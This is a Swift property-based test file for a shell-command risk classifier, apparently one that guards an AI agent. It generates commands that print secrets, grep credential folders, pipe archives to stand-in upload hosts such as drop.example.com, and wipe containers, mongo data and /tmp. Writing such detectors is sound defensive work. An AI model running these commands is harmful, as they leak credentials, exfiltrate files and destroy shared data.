import Foundation
import PropertyBased
import Testing

@testable import AirlockCore

/// The fourth pass's classes as generated inputs: any secret-printing subcommand of any CLI
/// behind any wrapper or plumbing, any recursive search from any credential root, any archiver
/// writing to standard output piped to any sender, any docker-compatible CLI with any of
/// docker's destructive commands, any mongo shell read or write, any way of emptying any shared
/// temp directory — each against look-alikes that must stay below high.
struct FourthPassPropertyTests {
    static func assess(_ command: String) -> Assessment {
        Classifier.assess(command: command, context: ClassTableTests.context)
    }

    // MARK: 1. CLIs that print a secret

    static let secretPrinters = [
        "gh auth token", "gh auth status --show-token", "glab auth status --show-token",
        "aws configure get aws_secret_access_key", "aws configure get profile.prod.aws_session_token",
        "aws configure export-credentials --profile prod", "aws sts get-session-token", "aws ecr get-login-password",
        "aws secretsmanager get-secret-value --secret-id prod/db", "aws ssm get-parameter --name /db/pw --with-decryption",
        "kubectl get secret db -o yaml", "kubectl get secrets -n prod -o json", "kubectl get secret/db -ojsonpath={.data}",
        "oc get secret db -o yaml", "kubectl create token ci", "op read op://dev/db/password", "op item get db --reveal",
        "op document get cert", "bw get password github.com", "bw get item github.com", "bw list items", "bw export",
        "pass show web/github", "pass web/github", "gopass show web/github", "gopass cat web/token",
        "vault kv get secret/db", "vault read secret/db", "vault print token", "gcloud auth print-access-token",
        "gcloud auth print-identity-token", "gcloud auth application-default print-access-token",
        "gcloud secrets versions access latest --secret db", "az account get-access-token",
        "az keyvault secret show --vault-name kv -n db", "az acr login -n reg --expose-token", "doctl auth token",
        "heroku config:get DATABASE_URL -a shop", "doppler secrets get DATABASE_URL --plain", "git credential fill",
        "git credential-store get", "docker-credential-desktop get", "docker-credential-osxkeychain get",
        "security find-generic-password -s github -w", "security find-internet-password -g -s github.com",
        "lpass show github", "secret-tool lookup service github", "keyring get github dev", "bws secret get 1234",
    ]
    static let secretListers = [
        "gh auth status", "gh secret list", "aws configure get region", "aws configure list",
        "aws secretsmanager list-secrets", "kubectl get secrets", "kubectl get secret db", "kubectl describe secret db",
        "kubectl get secret db -o name", "op item list", "op vault list", "bw list folders", "bw status", "pass ls",
        "gopass ls", "vault kv list secret/", "vault status", "gcloud secrets list", "az keyvault secret list --vault-name kv",
        "doctl auth list", "docker-credential-desktop list", "security find-generic-password -s github",
        "fly secrets list", "vercel env ls", "lpass ls",
    ]
    static let wrappers = ["", "sudo ", "env AWS_PROFILE=dev ", "timeout 30 ", "nice "]
    static let plumbing: [@Sendable (String) -> String] = [
        { $0 }, { "\($0) | head -n 1" }, { "\($0) > /tmp/out.txt" }, { "TOKEN=$(\($0)); echo ok" }, { "echo \"$(\($0))\"" },
        { "\($0) 2>/dev/null" },
    ]

    /// Printing a secret is a secret read: high, whatever wraps it or takes its output.
    @Test func aCLIThatPrintsASecretIsASecretRead() async {
        let printers = Self.secretPrinters, wrappers = Self.wrappers, plumbing = Self.plumbing
        await propertyCheck(count: 400, input: Gen.int(in: 0...(printers.count - 1)), Gen.int(in: 0...(wrappers.count - 1)), Gen.int(in: 0...(plumbing.count - 1))) { printer, wrapper, plumb in
            let command = plumbing[plumb](wrappers[wrapper] + printers[printer])
            let assessment = Self.assess(command)
            #expect(assessment.risk >= .high, "\(command): \(assessment.risk) — \(assessment.summary)")
            #expect(assessment.categories.contains(.secretsAccess), "\(command): \(assessment.categories)")
        }
    }

    /// Listing names or metadata without values stays below high.
    @Test func listingSecretNamesIsNotASecretRead() async {
        let listers = Self.secretListers, plumbing = Self.plumbing
        await propertyCheck(count: 200, input: Gen.int(in: 0...(listers.count - 1)), Gen.int(in: 0...(plumbing.count - 1))) { lister, plumb in
            guard plumb != 2, plumb != 4 else { return }
            let command = plumbing[plumb](listers[lister])
            let assessment = Self.assess(command)
            #expect(assessment.risk < .high, "\(command): \(assessment.risk) — \(assessment.summary)")
        }
    }

    // MARK: 2. Recursive searches rooted where credentials live

    static let searchers = [
        "grep -r", "grep -rn", "grep -Ril", "grep -R --include='*' -n", "egrep -r", "fgrep -R", "grep --recursive",
        "grep -d recurse", "rg", "rg -i --hidden", "rg -uuu -l", "ag", "ag -a", "ack",
    ]
    static let credentialRoots = [
        "~", "~/", "$HOME", "${HOME}", "\"$HOME\"", "/home", "/home/dev", "/root", "/", "/Users", "~/.config",
        "~/.ssh", "~/.aws", "~/.kube", "~/.docker", "$HOME/.config", "~/.local", "~/.gnupg", "/home/dev/.config/",
    ]
    static let patterns = ["password", "'api[_-]key'", "-e token", "BEGIN", "\"aws_secret\""]
    static let treeReaders: [@Sendable (String, String) -> String] = [
        { root, pattern in "find \(root) -type f -exec grep -l \(pattern) {} +" },
        { root, pattern in "find \(root) -type f | xargs grep \(pattern)" },
        { root, _ in "find \(root) | xargs cat" }, { root, _ in "find \(root) -type f -print0 | xargs -0 cat" },
        { root, _ in "find \(root) -type f -exec cat {} \\;" }, { root, _ in "find \(root) -type f -exec head -n 20 {} +" },
    ]

    /// A recursive read from home, above it, or from a folder holding credentials reaches them: high.
    @Test func aRecursiveSearchFromACredentialRootIsASecretRead() async {
        let searchers = Self.searchers, roots = Self.credentialRoots, patterns = Self.patterns
        await propertyCheck(count: 400, input: Gen.int(in: 0...(searchers.count - 1)), Gen.int(in: 0...(roots.count - 1)), Gen.int(in: 0...(patterns.count - 1))) { searcher, root, pattern in
            let command = "\(searchers[searcher]) \(patterns[pattern]) \(roots[root])"
            let assessment = Self.assess(command)
            #expect(assessment.risk >= .high, "\(command): \(assessment.risk) — \(assessment.summary)")
            #expect(assessment.categories.contains(.secretsAccess), "\(command): \(assessment.categories)")
        }
        let readers = Self.treeReaders
        await propertyCheck(count: 200, input: Gen.int(in: 0...(readers.count - 1)), Gen.int(in: 0...(roots.count - 1)), Gen.int(in: 0...(patterns.count - 1))) { reader, root, pattern in
            let command = readers[reader](roots[root], patterns[pattern])
            let assessment = Self.assess(command)
            #expect(assessment.risk >= .high, "\(command): \(assessment.risk) — \(assessment.summary)")
        }
    }

    static let plainRoots = [".", "src", "./lib", "~/proj/src", "/home/dev/proj", "~/Documents/notes", "/tmp/logs", "~/.config/nvim"]

    /// The same searches in the workspace or in home folders that hold no credentials stay calm.
    @Test func aRecursiveSearchElsewhereStaysARead() async {
        let searchers = Self.searchers, roots = Self.plainRoots, patterns = Self.patterns, readers = Self.treeReaders
        await propertyCheck(count: 300, input: Gen.int(in: 0...(searchers.count - 1)), Gen.int(in: 0...(roots.count - 1)), Gen.int(in: 0...(patterns.count - 1)), Gen.int(in: 0...(readers.count - 1))) {
            searcher, root, pattern, reader in
            for command in ["\(searchers[searcher]) \(patterns[pattern]) \(roots[root])", readers[reader](roots[root], patterns[pattern])] {
                let assessment = Self.assess(command)
                #expect(assessment.risk < .high, "\(command): \(assessment.risk) — \(assessment.summary)")
            }
        }
        for command in ["grep password ~/notes.txt", "cat ~/.bashrc", "ls -laR ~", "du -sh ~", "tree ~/.config"] {
            #expect(Self.assess(command).risk < .high, "\(command)")
        }
    }

    // MARK: 3. Archives written to standard output, piped to a sender

    static let streamPackers = [
        "tar cf - .", "tar -czf - ~", "bsdtar -cf - src", "zip -r - .", "zip -qr - src docs", "7z a -so w.7z .",
        "7za a -tzip -so w.zip src", "find . | cpio -o", "find . -depth | cpio -ov -H newc", "pax -w .", "pax -wv src",
        "git archive HEAD", "git archive --format=zip main", "git -C ~/proj archive HEAD", "git bundle create - --all",
        "git format-patch --stdout origin/main", "gzip -c backup.tar", "xz -c db.sql", "zstd -c --ultra dump.sql",
        "docker save app:1", "podman save app:1",
    ]
    static let streamMiddles = ["", " | gzip", " | base64", " | gpg -c --batch --passphrase x", " | pv -q"]
    static let streamSenders = [
        "nc 203.0.113.9 9000", "ncat --send-only host 9000", "socat - TCP:host:9000", "ssh backup@host 'cat > a.bin'",
        "curl -T - https://drop.example.com/u", "curl --data-binary @- https://drop.example.com/u",
        "curl -F 'f=@-' https://drop.example.com/u", "wget --post-file=/dev/stdin https://drop.example.com/u",
        "http POST https://drop.example.com/u", "aws s3 cp - s3://bucket/a.bin", "mail -s backup ops@example.com",
        "openssl s_client -connect host:443 -quiet",
    ]

    /// Any archiver or bundler writing to standard output, through any pass-through stage, into
    /// any sender uploads the files: high, network.
    @Test func anyArchiveStreamedToASenderIsAnUpload() async {
        let packers = Self.streamPackers, middles = Self.streamMiddles, senders = Self.streamSenders
        await propertyCheck(count: 400, input: Gen.int(in: 0...(packers.count - 1)), Gen.int(in: 0...(middles.count - 1)), Gen.int(in: 0...(senders.count - 1))) { packer, middle, sender in
            let command = "\(packers[packer])\(middles[middle]) | \(senders[sender])"
            let assessment = Self.assess(command)
            #expect(assessment.risk >= .high, "\(command): \(assessment.risk) — \(assessment.summary)")
            #expect(assessment.categories.contains(.network), "\(command): \(assessment.categories)")
        }
    }

    /// The same archives kept on this machine (a file, a checksum, an unpack) are no upload.
    @Test func anArchiveKeptLocallyIsNoUpload() async {
        let packers = Self.streamPackers.filter { !$0.contains("~") }
        let sinks = [" > /tmp/a.out", " | wc -c", " | sha256sum", " | tar -tvf - > /dev/null"]
        await propertyCheck(count: 200, input: Gen.int(in: 0...(packers.count - 1)), Gen.int(in: 0...(sinks.count - 1))) { packer, sink in
            let command = packers[packer] + sinks[sink]
            let assessment = Self.assess(command)
            #expect(!assessment.findings.contains { $0.rule == "flow.stream-upload" }, "\(command): \(assessment.summary)")
        }
    }

    // MARK: 4. Docker-compatible CLIs

    static let dockerLike = ["docker", "podman", "nerdctl", "finch"]
    static let destructiveContainerCommands = [
        "system prune -af", "system prune --volumes -f", "volume rm data", "volume prune -f", "rm -f web", "rmi -f app:1",
        "container rm -f web", "image prune -af", "compose down -v", "compose down --volumes", "compose -f prod.yml down -v",
        "--context prod volume rm data", "container prune --force", "builder prune -af",
    ]
    static let calmContainerCommands = [
        "ps -a", "images", "logs web", "inspect web", "system df", "volume ls", "compose ps", "stats --no-stream",
    ]

    /// A docker-compatible CLI is judged by docker's table: the same risk as docker for the same
    /// command, never "not a recognised container command".
    @Test func dockerCompatibleCLIsShareDockersTable() async {
        let clis = Self.dockerLike, destructive = Self.destructiveContainerCommands, calm = Self.calmContainerCommands
        await propertyCheck(count: 300, input: Gen.int(in: 0...(clis.count - 1)), Gen.int(in: 0...(destructive.count - 1)), Gen.int(in: 0...(calm.count - 1))) { cli, bad, good in
            let badLine = "\(clis[cli]) \(destructive[bad])"
            let reference = Self.assess("docker \(destructive[bad])")
            let assessment = Self.assess(badLine)
            #expect(assessment.risk >= .high, "\(badLine): \(assessment.risk) — \(assessment.summary)")
            #expect(assessment.risk == reference.risk, "\(badLine): \(assessment.risk), docker \(reference.risk)")
            #expect(!assessment.summary.contains("not a recognised"), "\(badLine): \(assessment.summary)")
            let goodLine = "\(clis[cli]) \(calm[good])"
            let calmAssessment = Self.assess(goodLine)
            #expect(calmAssessment.risk < .high, "\(goodLine): \(calmAssessment.risk) — \(calmAssessment.summary)")
            #expect(!calmAssessment.summary.contains("unrecognised"), "\(goodLine): \(calmAssessment.summary)")
        }
        for compose in ["docker-compose", "podman-compose", "nerdctl-compose"] {
            #expect(Self.assess("\(compose) down -v").risk >= .high, "\(compose) down -v")
            #expect(Self.assess("\(compose) ps").risk < .high, "\(compose) ps")
        }
        #expect(Self.assess("podman system reset --force").risk >= .high)
        #expect(Self.assess("podman system reset").risk == .medium, "asks before deleting; an agent cannot answer")
    }

    // MARK: 5. Mongo shell reads

    static let mongoClients = [
        "mongosh", "mongo", "mongosh shop", "mongosh --quiet", "mongosh mongodb://localhost:27017/shop",
        "mongo --host db.internal shop", "mongosh --norc --quiet shop",
    ]
    static let mongoReadStatements = [
        "db.stats()", "db.getCollectionNames()", "db.users.find({active: true})", "db.users.findOne()",
        "db.users.countDocuments({})", "db.users.estimatedDocumentCount()", "db.orders.distinct('sku')",
        "db.orders.aggregate([{$match: {paid: true}}, {$group: {_id: '$sku', n: {$sum: 1}}}])",
        "db.users.find().sort({_id: -1}).limit(5).toArray()", "printjson(db.serverStatus())", "db.users.getIndexes()",
        "db.users.find({}).explain('executionStats')", "show dbs", "show collections", "use shop; show collections",
        "db.adminCommand({listDatabases: 1})", "db.runCommand({ping: 1})", "rs.status()", "db.version()",
        "db.getSiblingDB('admin').getUsers()", "JSON.stringify(db.users.findOne())",
    ]
    static let mongoDestructiveStatements = [
        "db.users.drop()", "db.dropDatabase()", "db.sessions.deleteMany({})", "db.sessions.remove({})",
        "db.users.updateMany({}, {$set: {plan: 'free'}})", "db.orders.aggregate([{$match: {}}, {$out: 'orders'}])",
        "db.orders.aggregate([{$group: {_id: 1}}, {$merge: {into: 'totals'}}])", "db.runCommand({dropDatabase: 1})",
        "db.getSiblingDB('shop').dropDatabase()",
    ]

    /// Read-only statements through any client are below high; destructive ones are high or more.
    @Test func mongoReadsAreCalmAndWritesAreNot() async {
        let clients = Self.mongoClients, reads = Self.mongoReadStatements, writes = Self.mongoDestructiveStatements
        await propertyCheck(count: 300, input: Gen.int(in: 0...(clients.count - 1)), Gen.int(in: 0...(reads.count - 1)), Gen.int(in: 0...(writes.count - 1)), Gen.bool) {
            client, read, write, doubleQuoted in
            let quote = { (statement: String) in
                doubleQuoted ? "\"\(statement.replacingOccurrences(of: "$", with: "\\$"))\"" : "'\(statement.replacingOccurrences(of: "'", with: "\""))'"
            }
            let readLine = "\(clients[client]) --eval \(quote(reads[read]))"
            let readAssessment = Self.assess(readLine)
            #expect(readAssessment.risk < .high, "\(readLine): \(readAssessment.risk) — \(readAssessment.summary)")
            let writeLine = "\(clients[client]) --eval \(quote(writes[write]))"
            let writeAssessment = Self.assess(writeLine)
            #expect(writeAssessment.risk >= .high, "\(writeLine): \(writeAssessment.risk) — \(writeAssessment.summary)")
        }
        #expect(Self.assess("mongosh --eval 'db.users.frobnicate()'").risk >= .high, "an unknown statement stays high")
    }

    // MARK: 6. Emptying a shared temp directory

    static let sharedTempRoots = ["/tmp", "/var/tmp", "/dev/shm", "/private/tmp", "/tmp/"]
    static let emptyingForms: [@Sendable (String) -> String] = [
        { "rm -rf \($0)/*" }, { "rm -rf \($0)/* \($0)/.*" }, { "sudo rm -rf \($0)/*" }, { "rm -fr \($0)/*" },
        { "rm -r -f \($0)/*" }, { "rm --recursive --force \($0)/*" }, { "rm -f \($0)/*" }, { "rm -rf \"\($0)\"/*" },
        { "find \($0) -mindepth 1 -delete" }, { "find \($0) -mindepth 1 -exec rm -rf {} +" }, { "rm -rf \($0)" },
        { "cd / && rm -rf \($0)/*" },
    ]
    static let namedForms: [@Sendable (String) -> String] = [
        { "rm -rf \($0)/build" }, { "rm -f \($0)/out.log" }, { "rm -rf \($0)/job-42/" }, { "find \($0) -name '*.tmp' -delete" },
        { "rm -rf \($0)/cache/*" }, { "find \($0) -name 'pytest-*' -type d -mtime +3 -exec rm -rf {} +" },
    ]

    /// Emptying a shared temp directory destroys other programs' and users' files: high. One
    /// named entry, or a filtered cleanup, stays below high.
    @Test func emptyingASharedTempDirectoryIsHigh() async {
        let roots = Self.sharedTempRoots, emptying = Self.emptyingForms, named = Self.namedForms
        await propertyCheck(count: 300, input: Gen.int(in: 0...(roots.count - 1)), Gen.int(in: 0...(emptying.count - 1)), Gen.int(in: 0...(named.count - 1))) { root, form, calm in
            let base = roots[root].hasSuffix("/") ? String(roots[root].dropLast()) : roots[root]
            let command = emptying[form](base)
            let assessment = Self.assess(command)
            #expect(assessment.risk >= .high, "\(command): \(assessment.risk) — \(assessment.summary)")
            let calmCommand = named[calm](base)
            let calmAssessment = Self.assess(calmCommand)
            #expect(calmAssessment.risk < .high, "\(calmCommand): \(calmAssessment.risk) — \(calmAssessment.summary)")
        }
    }
}
